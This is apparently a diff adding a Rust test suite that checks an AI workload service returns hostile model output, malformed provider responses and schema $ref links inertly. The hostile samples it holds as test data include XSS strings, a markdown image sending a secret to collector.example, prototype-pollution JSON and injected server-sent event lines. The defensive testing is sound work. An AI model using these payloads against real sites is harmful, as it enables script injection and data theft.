@@ -1,0 +1,236 @@
+//! What models say and what authors embed is data: it is kept and told as it is, and nothing in it happens (T12, T33).
+
+use crate::{
+    dispatch::queued,
+    events::events,
+    execution::{ended, run},
+};
+use fairway_testkit::{
+    Behaviour, FaultyEndpoint, Script, StubProvider, TestApp,
+    app::{ActiveWorkload, Answer},
+};
+use serde_json::{Value, json};
+use std::{
+    sync::Arc,
+    time::{Duration, Instant},
+};
+
+/// Much less than what anything here would take if it were done once for each part of it within each other part.
+const SOON: Duration = Duration::from_secs(10);
+
+/// Answers that would do something if somebody read them as more than text.
+fn hostile() -> Vec<String> {
+    let mut all: Vec<String> = [
+        "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>",
+        "[click](javascript:alert(1)) ![x](https://collector.example/?q=secret) <a href=\"data:text/html,x\">x</a>",
+        "<math><mtext></p><style><!--</style><img src=\"--></style><img src=x onerror=alert(1)>\">",
+        "&lt;script&gt; &#x6a;avascript: \u{202e}txt.exe \u{200b}",
+        r#"{"__proto__": {"admin": true}, "constructor": {"prototype": {}}, "status": "failed"}"#,
+        "| __proto__ | constructor |\n|---|---|\n| 1 | 2 |",
+        "x\n\nevent: execution.failed\ndata: {\"status\":\"failed\"}\n\nid: 99\r\revent: execution.failed\rdata: {}\r\r",
+        "{{trigger.ticket}} {{steps.ask.output}} $arg:ticket @asset-ref:prompt !command:delete",
+        "a\u{0}b \u{1b}[31mred\u{7f} \u{feff}",
+    ]
+    .map(str::to_owned)
+    .into();
+    all.push("[".repeat(100_000));
+    all.push("{\"a\":".repeat(100_000));
+    all.push((0..100_000).map(|depth| if depth % 2 == 0 { "- " } else { "> " }).collect());
+    all.push("<div>".repeat(100_000));
+    all
+}
+
+async fn app(obligations: &[&str]) -> (TestApp, ActiveWorkload, Arc<StubProvider>) {
+    let provider = StubProvider::new(Behaviour::Holds);
+    let app = TestApp::builder().provider(provider.clone()).start().await;
+    let given = app.given();
+    let mut rule = json!({ "id": "all", "condition": "always", "outcome": "allow", "reason_code": "fine" });
+    if !obligations.is_empty() {
+        rule["outcome"] = json!("allow_with_obligations");
+        rule["obligations"] = json!(obligations);
+    }
+    let policy = given.policy_of("policy", json!([rule])).await;
+    let workload = given.active_under("main", policy).await;
+    (app, workload, provider)
+}
+
+/// A browser takes it for nothing but JSON, and runs nothing even then.
+#[track_caller]
+fn is_json_to_everybody(answer: &Answer) {
+    assert_eq!(answer.header("content-type"), Some("application/json"), "{answer}");
+    assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
+    assert_eq!(answer.header("content-security-policy"), Some("default-src 'none'; frame-ancestors 'none'"));
+}
+
+#[tokio::test]
+async fn whatever_a_model_says_is_told_as_it_is() {
+    let (app, workload, provider) = app(&[]).await;
+    for said in hostile() {
+        let what: String = said.chars().take(40).collect();
+        provider.becomes(Behaviour::Answers(said.clone()));
+        let since = Instant::now();
+        let answer = run(&app, &workload).await;
+        assert!(since.elapsed() < SOON, "{what}: {:?}", since.elapsed());
+        is_json_to_everybody(&answer);
+        let told = answer.expect(200);
+        assert_eq!((&told["status"], &told["error"]), (&json!("completed"), &Value::Null), "{what}");
+        assert!(told["output"] == said.as_str(), "{what}: it was told as something else");
+        let id = &told["execution_id"];
+        let path = format!("/v1/executions/{}", id.as_str().unwrap());
+        let read = app.get(&path).await;
+        is_json_to_everybody(&read);
+        assert!(read.expect(200)["queued_result"]["result"] == said.as_str(), "{what}");
+        let evidence = app.get(format!("{path}/evidence-graph")).await;
+        is_json_to_everybody(&evidence);
+        assert_eq!(evidence.expect(200)["execution"]["status"], "completed");
+
+        // As events: however many lines it has, it is one, and it ends nothing.
+        let stream = run(&app, &workload).header("accept", "text/event-stream").await;
+        assert_eq!(stream.header("x-content-type-options"), Some("nosniff"));
+        let stream = events(&stream);
+        let ends =
+            stream.iter().filter(|event| event.kind.starts_with("execution.") && event.kind != "execution.started");
+        let ends: Vec<&str> = ends.map(|event| event.kind.as_str()).collect();
+        assert_eq!(ends, ["execution.completed"], "{what}");
+        let deltas = stream.iter().filter(|event| event.kind == "output.delta");
+        let deltas: String = deltas.map(|event| event.data["delta"].as_str().unwrap()).collect();
+        assert!(deltas == said, "{what}: it was told as something else in parts");
+        let id = queued(&app, &workload).await.expect(202)["execution_id"].clone();
+        assert!(ended(&app, &id).await["queued_result"]["result"] == said.as_str(), "{what}, from the line");
+    }
+}
+
+#[tokio::test]
+async fn whatever_a_model_says_is_masked_as_text() {
+    let (app, workload, provider) = app(&["redact_output"]).await;
+    for said in hostile() {
+        let what: String = said.chars().take(40).collect();
+        let personal = |mail: &str| format!("{said} {mail} <a href=\"mailto:{mail}\">");
+        provider.becomes(Behaviour::Answers(personal("ada@example.org")));
+        let since = Instant::now();
+        let told = run(&app, &workload).await.expect(200);
+        assert!(since.elapsed() < SOON, "{what}: {:?}", since.elapsed());
+        assert_eq!(told["status"], "completed", "{what}");
+        let masked = told["output"].as_str().unwrap();
+        assert!(!masked.contains("ada@example.org") && masked.starts_with(&what), "{what}: {:.200}", masked);
+    }
+}
+
+/// What comes over the wire is read within bounds, before anybody knows that it is an answer.
+#[tokio::test]
+async fn an_answer_that_is_made_to_hurt_is_none() {
+    let endpoint = FaultyEndpoint::start().await;
+    let account =
+        format!("[[providers]]\naccount_slot = \"acme\"\nkind = \"openai\"\nbase_url = \"{}\"\n", endpoint.url("/v1"));
+    let app = TestApp::builder().file(account).start().await;
+    let given = app.given();
+    let route = json!({ "route_id": "main", "provider": "acme", "model": "small", "account_slot": "acme", "state": "approved" });
+    let versions = vec![
+        given.version("model_policy", "models", json!({ "provider_route": route })).await,
+        given.prompt("prompt").await,
+        given.policy("policy").await,
+    ];
+    let workload = given.active_with("main", versions).await;
+    let usual = r#""choices":[{"index":0,"message":{"role":"assistant","content":"fine"},"finish_reason":"stop"}]"#;
+    let nested = |open: &str, close: &str| open.repeat(100_000) + &close.repeat(100_000);
+    for (what, body, output) in [
+        ("lists", nested("[", "]"), Value::Null),
+        ("objects", nested("{\"choices\":", "}"), Value::Null),
+        ("lists beside the answer", format!("{{{usual},\"x\":{}}}", nested("[", "]")), json!("fine")),
+        ("a surrogate", format!("{{{}}}", usual.replace("fine", "\\ud800")), Value::Null),
+        ("too much", format!("{{{}}}", usual.replace("fine", &"x".repeat(40 << 20))), Value::Null),
+        (
+            "names of prototypes",
+            format!("{{{usual},\"__proto__\":{{\"choices\":[]}},\"constructor\":1}}"),
+            json!("fine"),
+        ),
+        ("numbers", format!("{{{usual},\"usage\":{{\"prompt_tokens\":1e400,\"completion_tokens\":-1}}}}"), Value::Null),
+    ] {
+        endpoint.says(Script::status(200, &body));
+        let since = Instant::now();
+        let told = run(&app, &workload).await.expect(200);
+        assert!(since.elapsed() < SOON, "{what}: {:?}", since.elapsed());
+        assert_eq!(told["output"], output, "{what}: {told}");
+        if output.is_null() {
+            assert_eq!(told["error"]["code"], "provider_malformed_answer", "{what}: {told}");
+        }
+    }
+}
+
+/// Schemas inside of content say `$ref`; nobody goes there (T12).
+#[tokio::test]
+async fn nobody_fetches_what_a_schema_refers_to() {
+    let endpoint = FaultyEndpoint::start().await;
+    endpoint.says(Script::json(&json!({ "type": "string" })));
+    let app = TestApp::start().await;
+    let file = app.home().join("schema.json");
+    std::fs::write(&file, "{\"type\":\"string\"}").unwrap();
+    let binding = json!({ "kind": "x", "ref": "y" });
+    let places = [endpoint.url("/schema.json"), format!("file://{}", file.display()), "other.json".to_owned()];
+    for (turn, place) in places.iter().enumerate() {
+        let refused = [
+            json!({ "$ref": place }),
+            json!({ "properties": { "a": { "$dynamicRef": place } } }),
+            json!({ "$id": "http://example.org/", "allOf": [{ "$ref": place }] }),
+            json!({ "$ref": "#/$defs/a", "$defs": { "a": { "$ref": place } } }),
+        ];
+        // What these say is no place to go to.
+        let names = [json!({ "$schema": place, "type": "object" }), json!({ "$id": place, "type": "object" })];
+        let schemas = refused.iter().map(|schema| (schema, true)).chain(names.iter().map(|schema| (schema, false)));
+        for (number, (schema, is_refused)) in schemas.enumerate() {
+            for (kind, content) in [
+                ("tool_definition", json!({ "name": "t", "input_schema": schema, "binding": binding })),
+                ("prompt_template", json!({ "system_prompt": "x", "output_schema": schema })),
+                (
+                    "evaluation_suite",
+                    json!({ "dataset": { "items": [] }, "assertions": [{ "type": "is-json", "value": schema }] }),
+                ),
+            ] {
+                let slug = format!("{}-{turn}-{number}", kind.replace('_', "-"));
+                let asset = app.given().asset(kind, &slug).await;
+                let answer = app.post(format!("/v1/assets/{asset}/versions"), json!({ "content": content })).await;
+                if is_refused {
+                    assert_eq!(answer.status, 400, "{kind}: {schema}: {answer}");
+                    assert!(!answer.text().contains(place.as_str()), "{answer}");
+                }
+                assert!(matches!(answer.status, 201 | 400), "{kind}: {schema}: {answer}");
+            }
+        }
+    }
+    assert_eq!(endpoint.count(), 0, "{:?}", endpoint.requests());
+}
+
+/// Lists in lists, from whoever sends them to whoever reads the answer: what a flow makes of them can be read again.
+#[tokio::test]
+async fn what_is_deep_on_both_sides_is_read_as_it_was_written() {
+    let app = TestApp::start().await;
+    let given = app.given();
+    let (brackets, closing) = ("[".repeat(48), "]".repeat(48));
+    let flow = format!(
+        "name: Deep\ndescription: Returns what it is given.\ntrigger: {{ type: api_request, inputs_schema: {{ ticket: array }} }}\n\
+         entry_step: done\nsteps:\n  - id: done\n    type: return\n    output: {brackets}'{{{{trigger.ticket}}}}'{closing}\n"
+    );
+    let versions = vec![
+        given.prompt("prompt").await,
+        given.model_policy("models").await,
+        given.policy("policy").await,
+        given.flow("flow", &flow).await,
+    ];
+    let workload = given.active_with("main", versions).await;
+    let deep = |depth: usize| (0..depth).fold(json!(1), |inner, _| json!([inner]));
+    for depth in [1, 20, 40, 58] {
+        let body = json!({ "environment": "dev", "inputs": { "ticket": deep(depth) } });
+        let answer = app.post(workload.execute_path(), body).await;
+        let told = answer.expect(200);
+        let path = format!("/v1/executions/{}", told["execution_id"].as_str().unwrap());
+        let read = app.get(&path).await.expect(200);
+        assert_eq!(read["status"], told["status"], "{depth}");
+        app.get(format!("{path}/evidence-graph")).await.expect(200);
+        if told["status"] == "completed" {
+            assert_eq!(told["output"], (0..48).fold(deep(depth), |inner, _| json!([inner])), "{depth}");
+            assert_eq!(read["queued_result"]["result"], told["output"], "{depth}");
+        } else {
+            assert!(told["error"]["code"].is_string(), "{depth}: {told}");
+        }
+    }
+}
